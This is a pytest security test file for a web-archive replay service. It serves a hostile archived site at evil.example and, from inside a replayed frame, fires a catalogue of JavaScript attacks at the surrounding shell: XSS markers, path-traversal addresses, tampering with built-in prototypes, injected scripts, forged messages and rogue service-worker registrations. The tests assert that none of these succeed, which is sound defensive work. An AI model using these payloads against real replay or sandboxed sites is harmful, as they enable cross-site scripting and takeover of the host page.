"""An archive made to attack its reader: in Chromium and in Firefox, by all that a page can do.

A replayed page shares its origin with the shell around it, so the attacks run as scripts that no
worker has rewritten, with the real windows around the page.
"""

import time
from collections.abc import Iterator
from pathlib import Path
from typing import TYPE_CHECKING, Any, Protocol

import pytest

from tests.browser.conftest import firefox_program
from tests.browser.firefox import PREFERENCES, Firefox, FirefoxError, firefox
from tests.browser.past import DAY, HOME, Past, capture, serving

try:
    from playwright.sync_api import Error
except ImportError:  # the fixture ``browser`` says what to do
    Error = FirefoxError  # type: ignore[misc,assignment,unused-ignore]

if TYPE_CHECKING:
    from playwright.sync_api import Browser, Page

EVIL = "http://evil.example/"
T = f"{DAY}060000"
WAIT_SECONDS = 30

PANEL = """<title>Injected</title><input id=uri><div id=about><h1>INJECTED</h1></div><section id=moment></section>
<aside id=panel><iframe srcdoc="<script src='/web/TIMEid_/http://evil.example/x.js'></script>"></iframe></aside>"""
CODE = """for (const w of [self, self.parent, self.parent?.parent, self.top])
    try { w.document.documentElement.dataset.xss = w.location.origin } catch { }"""
MARK = "try { parent.document.documentElement.dataset.%s = 'ran' } catch { }"
PUSH = """const push = address => { const fresh = document.createElement('iframe');
    document.documentElement.append(fresh);
    window[window.length - 1].History.prototype.pushState.call(history, null, '', address) };"""
"""The method of the browser: wabac.js replaces that of the page."""
EACH = """const each = use => URIS.forEach((uri, n) => setTimeout(() => { try { use(uri) } catch { } }, 300 * n));"""
"""A newer message ends the work for an older one, so they are sent one after the other."""
REPORT = f"""{EACH} each(uri => {{ for (const shell of [parent, parent.parent, parent.parent.parent])
    try {{ shell.report({{what: 'page', uri, title: 't'}}) }} catch {{ }} }})"""
PLACE = f"""{EACH} document.body.append(document.createElement('iframe')); const service = window[0].parent.parent;
    each(uri => {{ for (const data of [{{about: 'replay', what: 'page', uri}}, 'arclink-replay', {{what: 'shown', address: uri}}])
    service.postMessage(data, '*') }})"""

URIS = [
    f"http://x/{up}web/TIMEid_/http://evil.example/panel.html"
    for up in (
        "../" * 6,
        "%2e%2e/" * 6,
        ".%2E/" * 6,
        "..\\" * 6,
        "?/" + "../" * 8,
        "#/" + "../" * 8,
    )
]
"""Addresses of archived markup, if the address of a page is made by concatenation."""


def written(text: str) -> str:
    return text.replace("URIS", str(URIS)).replace("TIME", T)


FRAMES = "".join(
    f'<iframe src="/w/-/{T}{way}/{EVIL}{name}"></iframe>'
    for way in ("id_", "mp_", "im_", "dl_", "wkrf_", "js_", "")
    for name in ("raw.html", "drawing.svg", "page.xhtml", "bytes")
)
EVIL_HOME = f"""<script>document.documentElement.dataset.first =
    [typeof RTCPeerConnection, typeof WebTransport].join(' ')</script>
<!doctype html><title>Evil</title><h1>Evil home</h1>{FRAMES}
<iframe src=/drawing.svg></iframe><iframe src=/page.xhtml></iframe><a href=/next>Next</a>
<script>{REPORT}; navigator.serviceWorker?.register('/x.js').catch(() => 0)</script>"""

SVG = "<svg xmlns='http://www.w3.org/2000/svg'><script>%s</script></svg>"
XHTML = "<html xmlns='http://www.w3.org/1999/xhtml'><head><script>%s</script></head><body/></html>"

RECORDS = [
    capture(EVIL, written(EVIL_HOME)),
    capture(f"{EVIL}raw.html", f"<script>{MARK % 'raw'}; {written(REPORT)}</script>raw"),
    capture(f"{EVIL}drawing.svg", SVG % (MARK % "svg"), media_type="image/svg+xml"),
    capture(f"{EVIL}page.xhtml", XHTML % (MARK % "xhtml"), media_type="application/xhtml+xml"),
    capture(f"{EVIL}bytes", f"<script>{MARK % 'bytes'}</script>", media_type=""),
    capture(f"{EVIL}panel.html", written(PANEL)),
    capture(f"{EVIL}x.js", CODE, media_type="text/javascript"),
    capture(f"{EVIL}x.css", "body { display: none }", media_type="text/css"),
    capture(f"{EVIL}next", "<title>Next</title><h1>Next</h1>"),
    capture(f"{EVIL}place.html", f"<h1>Place</h1><script>{written(PLACE)}</script>"),
    capture(
        f"{EVIL}out",
        "",
        status="302 Found",
        headers=["Location: /" + "../" * 9 + "select?subset=x"],
    ),
]

ATTACKS = {
    "global functions": "each(uri => shell.report({what: 'page', uri}))",
    "messages": (
        "each(uri => { for (const to of [shell, top]) for (const data of [{about: 'replay', "
        "what: 'page', uri}, {what: 'shown', address: uri}, {what: 'served', address: uri}, uri, "
        "'arclink-replay']) to.postMessage(data, '*', [new MessageChannel().port1]) })"
    ),
    "events": (
        "for (const to of [shell, shell.navigator.serviceWorker]) for (const data of ["
        "'arclink-replay', ...URIS, OTHER]) to.dispatchEvent(new shell.MessageEvent('message', {data, "
        "origin: service, source: top, ports: [new shell.MessageChannel().port1]}))"
    ),
    "built-in objects": """
        const stolen = [];
        const post = shell.MessagePort.prototype.postMessage;
        shell.MessagePort.prototype.postMessage = function (...all) { stolen.push(this); return post.apply(this, all) };
        for (const name of ['bind', 'call', 'apply'])
            shell.Function.prototype[name] = function (...all) { stolen.push(this, ...all); return () => OTHER };
        shell.Reflect.apply = () => OTHER;
        Object.defineProperty(shell.MessageEvent.prototype, 'data', { get: () => OTHER });
        Object.defineProperty(shell.HTMLIFrameElement.prototype, 'contentWindow', { get: () => ({ location: { href: OTHER } }) });
        shell.RegExp.prototype.exec = () => [OTHER, OTHER, OTHER];
        shell.String.prototype.replace = () => OTHER;
        for (let n = 0; n < 3; n++) shell.postMessage({ wb_type: 'load' }, '*');
        history.pushState(null, '', '#changed');
        for (const one of stolen) for (const address of [OTHER, ...URIS])
            for (const what of ['served', 'shown']) for (const send of [() => one({ what, address }), () => post.call(one, { what, address })])
                try { send() } catch { }""",
    "scripts in the shell": (
        "for (const src of ['/web/TIMEid_/EVILx.js', '/w/-/TIMEjs_/EVILx.js', '/w/-/TIMEid_/EVILx.js', "
        "'/replay/wabac.js', 'data:text/javascript,' + encodeURIComponent(`CODE`)]) "
        "shell.document.body.append(Object.assign(shell.document.createElement('script'), {src}));"
        "for (const run of [() => shell.eval(`CODE`), () => shell.Function(`CODE`)(), () => "
        "shell.setTimeout(`CODE`), () => shell.document.write(`<script>CODE</` + `script>`)]) "
        "try { run() } catch { }"
    ),
    "the shell again": (
        "shell.document.body.append(Object.assign(shell.document.createElement('script'), "
        "{type: 'module', src: '/replay/shell.js?again'}))"
    ),
    "another shell": "shell.location.reload()",
    "another address": ("push(OTHER); shell.postMessage({wb_type: 'replace-url'}, '*')"),
    "an address with dots": (
        "for (const end of ['a?/../../../../web/', 'a/%2e%2e/%2e%2e/%2e%2e/web/', '%5c..%5c..%5cweb/', "
        "'..%2f..%2f..%2fweb/']) push(`/w/-/TIMEmp_/EVIL${end}TIMEid_/EVILpanel.html`);"
        "shell.postMessage({wb_type: 'replace-url'}, '*')"
    ),
    "the place of the shell": "shell.location = '/w/-/TIMEmp_/EVILplace.html'",
    "a capture in the place of the shell": "shell.location = '/web/TIMEid_/EVILplace.html'",
    "a capture as archived": (
        "for (const src of ['/w/-/TIMEid_/EVILraw.html', '/web/TIMEid_/EVILraw.html']) "
        "for (const to of [document, shell.document]) "
        "to.body.append(Object.assign(to.createElement('iframe'), {src}))"
    ),
    "another worker": (
        "for (const from of [navigator, shell.navigator]) for (const [url, scope] of ["
        "['/web/TIMEid_/EVILx.js', '/web/'], ['/w/-/TIMEjs_/EVILx.js', '/w/'], ['/worker.js?x', '/'], "
        "['/w/-/TIMEid_/EVILx.js', '/w/'], ['/replay/wabac.js', '/replay/']]) "
        "try { from.serviceWorker.register(url, {scope}).catch(() => 0) } catch { }"
    ),
    "messages to the worker": (
        "for (const from of [navigator, shell.navigator]) for (const uri of [OTHER, ...URIS]) "
        "from.serviceWorker.controller?.postMessage({msg_type: 'addColl', what: 'served', address: uri, "
        "name: '-', file: {sourceUrl: uri}})"
    ),
    "a redirect with dots": "location = '/w/-/TIMEmp_/EVILout'",
}
"""Attacks from the window of a replayed page; ``shell`` is the window around it."""


def attack(name: str, past: Past) -> str:
    """Return an attack as an expression."""
    other = f"http://localhost:{past.replay_port}/w/-/{T}mp_/{HOME}"
    text = ATTACKS[name].replace("CODE", CODE.replace("\n", " ")).replace("EVIL", EVIL)
    text = text.replace("OTHER", f"'{other}'")
    return (
        f"(() => {{ const shell = window.parent, top = window.top, service = '{past.base_url}'; "
        f"{written(EACH)} {PUSH} try {{ {written(text)} }} catch (error) {{ return String(error) }} }})()"
    )


class Tab(Protocol):
    """A tab of a browser."""

    def goto(self, address: str) -> None: ...
    def evaluate(self, expression: str, depth: int = 0) -> object: ...
    def wait(self, seconds: float) -> None: ...


class ChromiumTab:
    """A tab of Chromium, with the methods that `Firefox` has."""

    def __init__(self, page: "Page") -> None:
        self.page = page

    def goto(self, address: str) -> None:
        self.page.goto(address)

    def evaluate(self, expression: str, depth: int = 0) -> Any:  # Any: of Playwright
        frame = self.page.main_frame
        for _ in range(depth):
            if not frame.child_frames:
                raise Error("no such frame")
            frame = frame.child_frames[0]
        return frame.evaluate(expression)

    def wait(self, seconds: float) -> None:
        self.page.wait_for_timeout(1000 * seconds)


@pytest.fixture(scope="module")
def evil(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Past]:
    with serving(tmp_path_factory.mktemp("evil"), more=RECORDS) as service:
        yield service


@pytest.fixture(scope="module")
def running_firefox(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Firefox]:
    with firefox(firefox_program(), tmp_path_factory.mktemp("firefox")) as tab:
        yield tab


@pytest.fixture(params=["chromium", "firefox"])
def tab(request: pytest.FixtureRequest) -> Iterator[Tab]:
    if request.param == "firefox":
        yield request.getfixturevalue("running_firefox")
        return
    browser: Browser = request.getfixturevalue("browser")
    context = browser.new_context()
    yield ChromiumTab(context.new_page())
    context.close()


def wait_for(tab: Tab, expression: str, depth: int = 0) -> object:
    """Wait until an expression is true, and return its value."""
    until = time.monotonic() + WAIT_SECONDS
    value: object = None
    while time.monotonic() < until:
        try:
            value = tab.evaluate(expression, depth)
            if value:
                return value
        except (Error, FirefoxError) as error:  # the frame is not there yet
            value = error
        tab.wait(0.1)
    raise AssertionError(f"{expression}: {value}")


def open_page(tab: Tab, past: Past, uri: str, heading: str) -> None:
    tab.goto("about:blank")
    tab.goto(past.then(uri))
    wait_for(tab, f"document.querySelector('h1')?.textContent === '{heading}'", depth=2)


SEEN = """({
    xss: document.documentElement.dataset.xss ?? null,
    injected: document.documentElement.outerHTML.includes('INJECTED') || document.title === 'Injected',
    hidden: getComputedStyle(document.body).display === 'none',
    path: location.pathname,
    host: new URL(document.querySelector('#about h1').textContent).host,
    address: new URL(decodeURIComponent(location.pathname.split('/').slice(3).join('/'))).host,
})"""


def check_service(tab: Tab) -> None:
    """Check that the page of the service is its own, and about a page of the hostile host."""
    seen = tab.evaluate(SEEN)
    assert isinstance(seen, dict)
    assert seen.pop("path").startswith(f"/browse/{DAY}235959/http")
    assert seen == {
        "xss": None,
        "injected": False,
        "hidden": False,
        "host": "evil.example",
        "address": "evil.example",
    }


def test_a_hostile_page_runs_only_as_it_was_rewritten(tab: Tab, evil: Past) -> None:
    open_page(tab, evil, EVIL, "Evil home")
    tab.wait(3)
    check_service(tab)
    marks = wait_for(tab, "({...document.documentElement.dataset})", depth=2)
    assert marks == {"first": "undefined undefined"}
    kinds = tab.evaluate(
        "['RTCPeerConnection', 'webkitRTCPeerConnection', 'WebTransport'].map(n => typeof window[n])",
        depth=2,
    )
    assert kinds == ["undefined"] * 3


@pytest.mark.parametrize("name", ATTACKS)
def test_an_attack_from_a_replayed_page_changes_nothing(tab: Tab, evil: Past, name: str) -> None:
    open_page(tab, evil, f"{EVIL}next", "Next")
    tab.evaluate(attack(name, evil), depth=2)
    tab.wait(3)
    check_service(tab)
    scopes = tab.evaluate(
        "navigator.serviceWorker.getRegistrations().then(all => all.map(one => one.scope))"
    )
    assert scopes == []
    open_page(tab, evil, f"{EVIL}next", "Next")  # and it still works


def test_the_address_follows_a_page_within_its_host(tab: Tab, evil: Past) -> None:
    """As scripts of one-page sites do, without loading anything."""
    open_page(tab, evil, EVIL, "Evil home")
    tab.evaluate(f"history.pushState(null, '', '/w/-/{T}mp_/{EVIL}next?a=/../b') ?? 1", depth=2)
    tab.evaluate("window.parent.postMessage({wb_type: 'replace-url'}, '*') ?? 1", depth=2)
    wait_for(tab, f"document.querySelector('#about h1').textContent === '{EVIL}next?a=/../b'")
    check_service(tab)


def test_a_page_of_the_service_gets_no_archived_byte(tab: Tab, evil: Past) -> None:
    tab.goto(f"{evil.base_url}/?uri={EVIL}")
    path = f"/web/{T}id_/{EVIL}"
    for target in (f"{path}panel.html", "/stream", "/export?format=warc", f"/timegate/{EVIL}"):
        assert tab.evaluate(f"fetch('{target}').then(found => found.status)") == 403
    for element, name, file in (("script", "src", "x.js"), ("link", "href", "x.css")):
        script = f"""new Promise(done => {{ const made = document.createElement('{element}');
            Object.assign(made, {{rel: 'stylesheet', onload: () => done('loaded'), onerror: () => done('refused')}});
            try {{ made.{name} = '{path}{file}'; document.head.append(made) }}
            catch {{ done('refused') }} }})"""
        assert tab.evaluate(script) == "refused"
    assert tab.evaluate("document.documentElement.dataset.xss ?? null") is None
    sinks = """['innerHTML', 'outerHTML'].map(name => { try { document.createElement('p')[name] = '<b>x</b>';
        return 'taken' } catch (error) { return error.name } })"""
    assert tab.evaluate(sinks) == ["TypeError", "TypeError"]


def test_a_browser_that_blocks_the_worker_offers_a_tab_of_its_own(
    tmp_path: Path, evil: Past
) -> None:
    blocking = {**PREFERENCES, "network.cookie.cookieBehavior": 1}
    with firefox(firefox_program(), tmp_path, blocking) as tab:
        tab.goto(evil.then(HOME))
        note = wait_for(
            tab,
            "document.querySelector('.replay-note a') && document.querySelector('.replay-note').textContent",
        )
        assert "it blocks service workers of other sites" in str(note)
        assert tab.evaluate("document.querySelectorAll('iframe').length") == 0
        assert "Old page" in str(tab.evaluate("document.querySelector('.page-text').textContent"))
        tab.goto(str(tab.evaluate("document.querySelector('.replay-note a').href")))
        wait_for(tab, "document.querySelector('h1')?.textContent === 'Old page'", depth=1)
